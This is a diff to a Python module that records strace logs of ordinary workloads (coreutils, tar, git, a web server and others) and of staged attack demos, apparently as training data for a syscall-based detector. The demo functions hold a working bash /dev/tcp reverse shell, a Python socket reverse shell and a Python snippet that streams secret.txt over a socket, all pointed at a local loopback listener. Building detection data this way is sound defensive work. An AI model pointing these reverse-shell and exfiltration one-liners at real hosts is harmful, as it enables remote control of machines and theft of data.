@@ -29,18 +29,16 @@ import collections
 import logging
 import os
 import shutil
-import signal
-import socket
 import subprocess
 import sys
 import tempfile
 import textwrap
-import threading
 import time
 from collections.abc import Callable, Iterable, Sequence
 from pathlib import Path
 
 import numpy as np
+from strace_tools import current_tracer, free_port, stop, with_listener, write_files
 
 from sentinel_jax.atomic import write_json_atomic
 from sentinel_jax.data.synthetic_profiles import (
@@ -101,35 +99,12 @@ CRON_SCRIPT = textwrap.dedent("""\
     """)
 
 
-def _write_files(folder: Path, count: int, size: int) -> None:
-    folder.mkdir(parents=True, exist_ok=True)
-    rng = np.random.default_rng(count * 7919 + size)
-    for index in range(count):
-        words = rng.choice(["alpha", "beta", "gamma", "delta", "error", "ok"],
-                           size=max(size // 6, 1))
-        (folder / f"file{index}.txt").write_text(" ".join(words) + "\n")
-        (folder / f"junk{index}.tmp").write_text("x")
-
-
-def _free_port() -> int:
-    with socket.socket() as probe:
-        probe.bind(("127.0.0.1", 0))
-        return int(probe.getsockname()[1])
-
-
 def _strace(log: Path, argv: Sequence[str], cwd: Path, follow: bool = True,
             env: dict[str, str] | None = None, timeout: float = 60.0,
             stdin: str | None = None) -> None:
-    """Runs ``argv`` under strace, writing its log to ``log``."""
-    log.parent.mkdir(parents=True, exist_ok=True)
-    # -s 0: no buffer contents in the log (nothing read is kept); paths are
-    # always printed in full.
-    command = ["strace", *(["-f"] if follow else []), "-qq", "-s", "0",
-               "-o", str(log), *argv]
-    result = subprocess.run(command, cwd=cwd, env=env, input=stdin, text=True,
-                            capture_output=True, timeout=timeout, check=False)
-    if result.returncode not in (0, 1) and not log.exists():
-        raise RuntimeError(f"{' '.join(argv)} failed: {result.stderr[-400:]}")
+    """Runs ``argv`` under the current tracer, writing its log to ``log``."""
+    current_tracer().run(log, argv, cwd, follow=follow, env=env,
+                         timeout=timeout, stdin=stdin)
 
 
 # ---------------------------------------------------------------- profiles
@@ -148,7 +123,7 @@ def _shell(log: Path, work: Path, k: int) -> None:
 
 
 def _coreutils(log: Path, work: Path, k: int) -> None:
-    _write_files(work / "in", 4 + k, 200)
+    write_files(work / "in", 4 + k, 200)
     script = ("ls -la in; cp -r in out; cat out/*.txt | sort | uniq -c | head; "
               "wc -c in/*; mv out/file0.txt out/moved.txt; du -sh out; id; "
               "stat in/file1.txt; rm -rf out")
@@ -156,7 +131,7 @@ def _coreutils(log: Path, work: Path, k: int) -> None:
 
 
 def _archiver(log: Path, work: Path, k: int) -> None:
-    _write_files(work / "data", 6 + 3 * k, 2000)
+    write_files(work / "data", 6 + 3 * k, 2000)
     script = ("tar -cf a.tar data && gzip -f a.tar && gzip -t a.tar.gz && "
               "mkdir -p x && tar -C x -xzf a.tar.gz && tar -tzf a.tar.gz | wc -l"
               " && rm -rf x a.tar.gz")
@@ -179,7 +154,7 @@ def _build(log: Path, work: Path, k: int) -> None:
 
 
 def _python(log: Path, work: Path, k: int) -> None:
-    _write_files(work / "in", 3 + k, 400)
+    write_files(work / "in", 3 + k, 400)
     code = textwrap.dedent(f"""\
         import json, os, collections, random, math
         counts = collections.Counter()
@@ -196,14 +171,11 @@ def _python(log: Path, work: Path, k: int) -> None:
 
 
 def _web_server(log: Path, work: Path, k: int) -> None:
-    _write_files(work / "site", 3 + k, 3000)
-    port = _free_port()
-    command = ["strace", "-f", "-qq", "-s", "0", "-o", str(log), PYTHON, "-m",
-               "http.server", str(port), "--bind", "127.0.0.1",
-               "--directory", str(work / "site")]
-    log.parent.mkdir(parents=True, exist_ok=True)
-    server = subprocess.Popen(command, cwd=work, stdout=subprocess.DEVNULL,
-                              stderr=subprocess.DEVNULL, start_new_session=True)
+    write_files(work / "site", 3 + k, 3000)
+    port = free_port()
+    server = current_tracer().start(
+        log, [PYTHON, "-m", "http.server", str(port), "--bind", "127.0.0.1",
+              "--directory", str(work / "site")], work)
     try:
         client = textwrap.dedent(f"""\
             import time, urllib.request
@@ -223,12 +195,7 @@ def _web_server(log: Path, work: Path, k: int) -> None:
             """)
         subprocess.run([sys.executable, "-c", client], timeout=60, check=False)
     finally:
-        os.killpg(server.pid, signal.SIGINT)
-        try:
-            server.wait(timeout=10)
-        except subprocess.TimeoutExpired:
-            os.killpg(server.pid, signal.SIGKILL)
-            server.wait()
+        stop(server)
 
 
 def _database(log: Path, work: Path, k: int) -> None:
@@ -248,7 +215,7 @@ def _database(log: Path, work: Path, k: int) -> None:
 
 
 def _editor(log: Path, work: Path, k: int) -> None:
-    _write_files(work, 2 + k, 1500)
+    write_files(work, 2 + k, 1500)
     editor = ["vi", "vim", "ex"][k % 3]
     commands = ["-c", "%s/alpha/ALPHA/g", "-c", "g/error/d", "-c", "$put ='end'",
                 "-c", "wq"]
@@ -267,13 +234,13 @@ def _package_manager(log: Path, work: Path, k: int) -> None:
 
 
 def _cron_job(log: Path, work: Path, k: int) -> None:
-    _write_files(work / "data", 3 + 2 * k, 800)
+    write_files(work / "data", 3 + 2 * k, 800)
     (work / "maint.sh").write_text(CRON_SCRIPT)
     _strace(log, ["sh", str(work / "maint.sh"), str(work), str(k)], work)
 
 
 def _vcs(log: Path, work: Path, k: int) -> None:
-    _write_files(work / "repo", 3 + k, 300)
+    write_files(work / "repo", 3 + k, 300)
     script = ("cd repo && git init -q && git add -A && "
               "git -c user.name=a -c user.email=a@b commit -qm init && "
               "echo change >> file0.txt && git diff --stat && git status -s && "
@@ -284,8 +251,8 @@ def _vcs(log: Path, work: Path, k: int) -> None:
 
 
 def _search(log: Path, work: Path, k: int) -> None:
-    _write_files(work / "tree" / "a", 4 + k, 500)
-    _write_files(work / "tree" / "b", 3 + k, 500)
+    write_files(work / "tree" / "a", 4 + k, 500)
+    write_files(work / "tree" / "b", 3 + k, 500)
     script = ("find tree -type f -name '*.txt' | head -n 20; "
               "grep -rn error tree | wc -l; grep -rl gamma tree | sort; "
               "find /usr/share/doc -maxdepth 1 -name 't*' | head -n 5")
@@ -315,41 +282,8 @@ PROFILES: dict[str, tuple[str, Recipe]] = {
 # Harmless, real versions of attack behaviour: loopback sockets, temporary
 # files, a child process of our own. Their tagged events check the motifs.
 
-def _loopback_listener(port: int, reply: bytes, ready: threading.Event) -> None:
-    with socket.socket() as server:
-        server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
-        server.bind(("127.0.0.1", port))
-        server.listen(1)
-        server.settimeout(20)
-        ready.set()
-        try:
-            connection, _ = server.accept()
-        except TimeoutError:
-            return
-        with connection:
-            connection.settimeout(5)
-            try:
-                connection.sendall(reply)
-                while connection.recv(4096):
-                    pass
-            except OSError:
-                pass
-
-
-def _with_listener(reply: bytes, run: Callable[[int], None]) -> None:
-    port = _free_port()
-    ready = threading.Event()
-    thread = threading.Thread(target=_loopback_listener, args=(port, reply, ready))
-    thread.start()
-    ready.wait(5)
-    try:
-        run(port)
-    finally:
-        thread.join(30)
-
-
 def _demo_reverse_shell_bash(log: Path, work: Path) -> None:
-    _with_listener(b"id\nexit\n", lambda port: _strace(
+    with_listener(b"id\nexit\n", lambda port: _strace(
         log, ["bash", "-c", f"sh -i < /dev/tcp/127.0.0.1/{port} "
               f"> /dev/tcp/127.0.0.1/{port} 2>&1 || exec 3<>/dev/tcp/127.0.0.1/"
               f"{port}; sh <&3 >&3 2>&3"], work, timeout=30))
@@ -359,7 +293,7 @@ def _demo_reverse_shell_python(log: Path, work: Path) -> None:
     code = ("import os,socket,subprocess;s=socket.socket();"
             "s.connect(('127.0.0.1',{port}));[os.dup2(s.fileno(),f) for f in (0,1,2)];"
             "subprocess.call(['/bin/sh','-i'])")
-    _with_listener(b"id\nexit\n", lambda port: _strace(
+    with_listener(b"id\nexit\n", lambda port: _strace(
         log, [PYTHON, "-c", code.format(port=port)], work, timeout=30))
 
 
@@ -368,7 +302,7 @@ def _demo_exfiltration(log: Path, work: Path) -> None:
     code = ("import socket;s=socket.create_connection(('127.0.0.1',{port}));"
             "f=open('secret.txt','rb');[s.sendall(b) for b in iter(lambda: "
             "f.read(512), b'')];s.close()")
-    _with_listener(b"", lambda port: _strace(
+    with_listener(b"", lambda port: _strace(
         log, [PYTHON, "-c", code.format(port=port)], work, timeout=30))
 
 
